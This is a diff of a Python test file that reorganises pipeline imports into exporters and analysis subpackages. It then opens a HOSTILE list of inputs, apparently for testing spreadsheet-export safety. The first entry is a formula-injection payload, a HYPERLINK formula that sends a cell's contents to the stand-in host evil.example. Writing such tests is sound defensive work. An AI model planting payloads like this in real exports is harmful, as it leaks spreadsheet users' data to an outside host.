@@ -10,11 +10,11 @@ from pathlib import Path
 
 import pytest
 
-from pipeline import export
-from pipeline.diff import diff_documents
-from pipeline.diff_report import diff_to_csv, diff_to_markdown
-from pipeline.matrix import WIDE_KEY_COLUMNS, documents_to_long, documents_to_wide
-from pipeline.summary import render_summary
+from pipeline.exporters import export
+from pipeline.analysis.diff import diff_documents
+from pipeline.exporters.diff_report import diff_to_csv, diff_to_markdown
+from pipeline.analysis.matrix import WIDE_KEY_COLUMNS, documents_to_long, documents_to_wide
+from pipeline.exporters.summary import render_summary
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
